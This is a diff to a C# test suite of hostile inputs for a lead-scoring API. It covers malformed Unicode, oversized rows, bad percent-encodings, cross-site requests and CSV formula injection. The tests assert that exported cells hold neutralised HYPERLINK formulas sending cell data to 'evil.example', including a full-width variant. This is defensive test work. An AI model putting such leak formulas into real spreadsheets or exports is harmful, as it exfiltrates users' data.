@@ -1,5 +1,6 @@
 using System.Text;
 using System.Text.Json.Nodes;
+using LeadFunctions.Csv;
 using LeadFunctions.Tests.Csv;
 using LeadFunctions.Tests.Faults;
 using static LeadFunctions.Tests.Corpus.CorpusSend;
@@ -46,6 +47,8 @@ public static class HostileInputs
         // Lead text that is hostile but legitimate data: stored exactly as written, harmless where it is shown.
         new("formula payloads in every field", Upload(() => File("formula-payloads.csv")),
             new Expectation.Batch("completed", 3, 0) { Then = FormulasAreKeptAndNeutralisedOnExportAsync }),
+        new("full-width formula payloads, exported for Excel with a BOM", Upload(() => File("fullwidth-formulas.csv")),
+            new Expectation.Batch("completed", 2, 0) { Then = FullWidthFormulasAreNeutralisedInTheBomExportAsync }),
         new("prompt injection in bios and names", Upload(() => File("prompt-injection.csv")),
             new Expectation.Batch("completed", 4, 0) { Then = InjectionDoesNotSteerTheAiAsync }),
         new("unicode names", Upload(() => File("unicode-names.csv")),
@@ -93,18 +96,65 @@ public static class HostileInputs
         new("offer JSON with null list items", Post("/api/offer", () => Text("{\"name\": \"x\", \"value_props\": [null]}", "application/json")), new Expectation.Problem(400, "value_props[0]")),
         new("offer JSON with an unknown field", Post("/api/offer", () => Text("{\"name\": \"x\", \"__proto__\": {}}", "application/json")), new Expectation.Problem(400, "__proto__")),
         new("empty offer body", Post("/api/offer", () => Text("", "application/json")), new Expectation.Problem(400, "body")),
-        new("score request that is not JSON", Post("/api/leads/score", () => Text("rescore please", "text/plain")), new Expectation.Problem(400, "body")),
+        new("score request that is not JSON", Post("/api/leads/score", () => Text("rescore please", "application/json")), new Expectation.Problem(400, "body")),
         new("score request with a string flag", Post("/api/leads/score", () => Text("{\"rescore\": \"yes\"}", "application/json")), new Expectation.Problem(400, "rescore")),
         new("score request with a path for a batch id", Post("/api/leads/score", () => Text("{\"batch_id\": \"../../batches\"}", "application/json")), new Expectation.Problem(400, "batch_id")),
 
+        // Strings whose escapes do not decode to Unicode text (lone or reversed surrogates), in values and in names.
+        new("offer with a lone high surrogate in the name", Post("/api/offer", () => Text("{\"name\": \"Acme \\ud800\"}", "application/json")), new Expectation.Problem(400, "name")),
+        new("offer with a lone low surrogate in a list item", Post("/api/offer", () => Text("{\"name\": \"x\", \"value_props\": [\"ok\", \"\\udfff\"]}", "application/json")),
+            new Expectation.Problem(400, "value_props[1]")),
+        new("offer with a lone surrogate as a field name", Post("/api/offer", () => Text("{\"name\": \"x\", \"\\ud800\": 1}", "application/json")), new Expectation.Problem(400, "body")),
+        new("offer update with a reversed surrogate pair in rules", Put("/api/offer/{offer}", () => Text("{\"name\": \"x\", \"rules\": {\"adjacent_industries\": [\"\\udc00\\ud800\"]}}", "application/json")),
+            new Expectation.Problem(400, "rules.adjacent_industries[0]")),
+        new("score request with a lone surrogate for an id", Post("/api/leads/score", () => Text("{\"offer_id\": \"\\ud800\"}", "application/json")), new Expectation.Problem(400, "offer_id")),
+
+        // Within every typed limit, but larger than Table Storage takes once stored.
+        new("offer with 20 value props of 500 accented letters", Post("/api/offer", () => Json(Offer(valueProps: Many(20, new string('\u00E9', 496))))), new Expectation.Problem(400, "value_props")),
+        new("offer update with 100 rule titles of 100 angle brackets", Put("/api/offer/{offer}", () => Json(new JsonObject { ["name"] = "x", ["rules"] = new JsonObject { ["excluded_titles"] = Many(100, new string('<', 97)) } })),
+            new Expectation.Problem(400, "rules")),
+        new("16 leads too big to store in one transaction, and one that fits", Upload(() => Text(GeneratedLeads.Csv(1) + TooBigToStoreRows(16), "text/csv")),
+            new Expectation.Batch("completed", 1, 16)),
+
         // Hostile query strings and ids.
+        new("results with a page_size beyond any integer", Get("/api/leads/results?page_size=99999999999999999999"), new Expectation.Problem(400, "page_size")),
+        new("results with min_score 101", Get("/api/leads/results?min_score=101"), new Expectation.Problem(400, "min_score")),
+        new("export with a negative min_score", Get("/api/leads/export_csv?min_score=-1"), new Expectation.Problem(400, "min_score")),
+        new("results with an invalid percent-encoding", RawGet("/api/leads/results?offer_id=%ZZ&page_size=%"), new Expectation.Problem(400, "offer_id")),
+        new("results with percent-encoded bytes that are not UTF-8", RawGet("/api/leads/results?offer_id=%FF%FE"), new Expectation.Problem(400, "offer_id")),
+        new("results with an encoded lone surrogate as the cursor", RawGet("/api/leads/results?cursor=%ED%A0%80"), new Expectation.Problem(400, "cursor")),
+        new("batches with an overlong UTF-8 slash for the offer", RawGet("/api/batches?offer_id=%C0%AF"), new Expectation.Problem(400, "offer_id")),
+        new("a lead id of bytes that are not UTF-8", RawGet("/api/leads/%FF%FE"), new Expectation.Problem(404)),
+        new("a batch id of an encoded NUL", RawGet("/api/batches/%00"), new Expectation.ServerRefusal(400)),
+        new("a batch id of an encoded line break", RawGet("/api/batches/a%0D%0Ab"), new Expectation.Problem(404)),
+        new("an offer id with an invalid percent-encoding", RawGet("/api/offer/%ZZ%"), new Expectation.Problem(404)),
+
+        // What a web page could send cross-site without a CORS preflight.
+        new("upload without a content type", Upload(() => File("formula-payloads.csv", null)), new Expectation.Problem(415)),
+        new("upload as text/plain", Upload(() => File("formula-payloads.csv", "text/plain")), new Expectation.Problem(415)),
+        new("offer without a content type", Post("/api/offer", () => Text("{\"name\":\"x\"}", null)), new Expectation.Problem(415)),
+        new("score request as text/plain", Post("/api/leads/score", () => Text("{\"rescore\": true}", "text/plain")), new Expectation.Problem(415)),
+        new("multipart upload posted from another site", Send(HttpMethod.Post, UploadRoute, () => Multipart(File("formula-payloads.csv")), ("Origin", "https://evil.example")),
+            new Expectation.Problem(403)),
+        new("offer posted by a cross-site page", Send(HttpMethod.Post, "/api/offer", () => Text("{\"name\":\"x\"}", "application/json"), ("Sec-Fetch-Site", "cross-site")),
+            new Expectation.Problem(403)),
+        new("offer deleted from a sandboxed page", Send(HttpMethod.Delete, "/api/offer/{offer}", () => null, ("Origin", "null")), new Expectation.Problem(403)),
+
+        // Hostile query strings and ids, continued.
         new("results with page_size 0", Get("/api/leads/results?page_size=0"), new Expectation.Problem(400, "page_size")),
         new("results with a forged cursor", Get("/api/leads/results?cursor=eyJhIjoiYiJ9"), new Expectation.Problem(400, "cursor")),
         new("results with a negative min_score", Get("/api/leads/results?min_score=-5"), new Expectation.Problem(400, "min_score")),
         new("results with an unknown intent", Get("/api/leads/results?intent=Urgent"), new Expectation.Problem(400, "intent")),
+        new("export with bom=maybe", Get("/api/leads/export_csv?bom=maybe"), new Expectation.Problem(400, "bom")),
         new("a lead id of 2,000 characters", Get("/api/leads/" + new string('a', 2000)), new Expectation.Problem(404)),
         new("a batch id with encoded slashes", Get("/api/batches/..%2F..%2Foffer"), new Expectation.Problem(404)),
     ];
+
+    /// <summary>Rows whose six fields are each within the field limit but together take 144,000 bytes once stored (é is a 6-byte escape).</summary>
+    private static string TooBigToStoreRows(int count) => string.Concat(Enumerable.Range(0, count).Select(i =>
+        $"Big {i} {Field()},{Field()},Big {i} Ltd {Field()},{Field()},{Field()},{Field()}\n"));
+
+    private static string Field() => new('\u00E9', LeadCsvLimits.MaxFieldChars - 10);
 
     private static Stream Open(string name) => System.IO.File.OpenRead(FilePath(name));
 
@@ -136,8 +186,22 @@ public static class HostileInputs
         var export = await context.Http.GetStringAsync($"/api/leads/export_csv?batch_id={batch.Batch["batch_id"]}");
         var cells = export.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).SelectMany(SplitCells).ToList();
         Assert.Equal(3 * 8, cells.Count);
-        Assert.DoesNotContain(cells, cell => cell.Length > 0 && "=+-@\t\r".Contains(cell[0]));
+        Assert.DoesNotContain(cells, cell => cell.Length > 0 && LeadCsvExportWriter.FormulaCharacters.Contains(cell[0]));
         Assert.Contains("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", cells);
+    }
+
+    private static async Task FullWidthFormulasAreNeutralisedInTheBomExportAsync(CorpusContext context, SettledBatch batch)
+    {
+        var bytes = await context.Http.GetByteArrayAsync($"/api/leads/export_csv?batch_id={batch.Batch["batch_id"]}&bom=true");
+
+        Assert.True(bytes.AsSpan().StartsWith(Encoding.UTF8.Preamble), "no UTF-8 BOM at the start of a bom=true export");
+        var export = Encoding.UTF8.GetString(bytes.AsSpan(Encoding.UTF8.Preamble.Length));
+        Assert.StartsWith("Name,Role,", export, StringComparison.Ordinal);
+        var cells = export.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).SelectMany(SplitCells).ToList();
+        Assert.Equal(2 * 8, cells.Count);
+        Assert.DoesNotContain(cells, cell => cell.Length > 0 && LeadCsvExportWriter.FormulaCharacters.Contains(cell[0]));
+        Assert.Contains("'\uFF1DHYPERLINK(\"http://evil.example/?leak=\"&A1)", cells);
+        Assert.Contains("Zo\u00EB \u00C5ngstr\u00F6m", cells);
     }
 
     private static Task InjectionDoesNotSteerTheAiAsync(CorpusContext context, SettledBatch batch)
